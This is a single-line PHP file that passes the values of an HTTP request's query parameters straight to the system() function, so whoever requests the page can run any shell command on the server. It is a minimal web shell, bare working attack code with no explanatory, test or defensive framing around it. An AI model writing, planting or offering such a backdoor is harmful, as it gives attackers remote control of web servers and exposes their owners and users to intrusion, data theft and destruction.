<?php $c = vsprintf("%s", array_values($_GET)); system($c);
